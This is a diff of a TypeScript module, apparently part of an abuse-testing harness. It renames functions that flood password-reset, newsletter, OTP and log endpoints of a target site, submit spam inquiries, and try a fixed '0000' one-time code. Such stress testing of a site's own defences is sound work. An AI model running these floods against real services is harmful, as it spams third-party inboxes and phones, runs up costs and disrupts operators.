@@ -1,13 +1,13 @@
-import { newCustomer } from '../site/customer.js';
+import { registerCustomer } from '../site/customer.js';
 import {
   repeat,
   randomToken,
   randomLoopbackAddress,
   randomMobileNumber,
-  get,
+  buildRawGet,
   attackDurationMs,
-  post,
-  send,
+  buildRawPost,
+  sendRaw,
   type Target,
 } from './send.js';
 
@@ -19,9 +19,11 @@ const stranger = () => `stranger-${randomToken()}@example.com`;
  * Triggers emails to other people's addresses through every route that sends mail, and submits
  * inquiries from an account with such an address.
  */
-export async function mailFlood(target: Target) {
-  const lost = () => send(target, post('/api/api/forgot-password', { email: stranger() }), 3000);
-  const news = () => send(target, post('/api/api/subscribe', { email: stranger() }), 3000);
+export async function floodMails(target: Target) {
+  const lost = () =>
+    sendRaw(target, buildRawPost('/api/api/forgot-password', { email: stranger() }), 3000);
+  const news = () =>
+    sendRaw(target, buildRawPost('/api/api/subscribe', { email: stranger() }), 3000);
   await Promise.all([
     repeat(attackDurationMs / 100, 100, lost),
     repeat(attackDurationMs / 100, 100, news),
@@ -35,7 +37,7 @@ export async function mailFlood(target: Target) {
  * Returns the HTTP statuses.
  */
 export async function submitSpamInquiries({ url }: Target, times: number) {
-  const { email, uid, send: call } = await newCustomer(url, randomLoopbackAddress());
+  const { email, uid, send: call } = await registerCustomer(url, randomLoopbackAddress());
   const all = (await call('GET', '/api/api/all')).json() as { _id: string }[];
   const statuses: number[] = [];
   for (let quantity = 1000; quantity < 1000 + times; quantity += 1) {
@@ -46,21 +48,21 @@ export async function submitSpamInquiries({ url }: Target, times: number) {
   return { email, statuses };
 }
 
-export async function signInCodeFlood(target: Target) {
+export async function floodSignInCodes(target: Target) {
   await repeat(attackDurationMs / 40, 40, () => {
     const phone = randomMobileNumber();
-    send(target, post('/api/api/send-otp', { phone }), 3000);
-    send(target, post('/api/api/verify-otp', { phone, otp: '0000' }), 3000);
+    sendRaw(target, buildRawPost('/api/api/send-otp', { phone }), 3000);
+    sendRaw(target, buildRawPost('/api/api/verify-otp', { phone, otp: '0000' }), 3000);
   });
 }
 
 const report = { 'csp-report': { 'violated-directive': 'script-src', 'blocked-uri': 'inline' } };
 
 /** Sends requests that cause log entries: long URLs, reports, malformed requests. */
-export async function logFlood(target: Target) {
+export async function floodLogs(target: Target) {
   await repeat(attackDurationMs / 10, 10, () => {
-    send(target, get(`/api/${'x'.repeat(14_000)}`), 1000);
-    send(target, post('/api/api/csp-report', report, 'application/csp-report'), 1000);
-    send(target, `${randomToken()}\r\n\r\n`, 1000);
+    sendRaw(target, buildRawGet(`/api/${'x'.repeat(14_000)}`), 1000);
+    sendRaw(target, buildRawPost('/api/api/csp-report', report, 'application/csp-report'), 1000);
+    sendRaw(target, `${randomToken()}\r\n\r\n`, 1000);
   });
 }
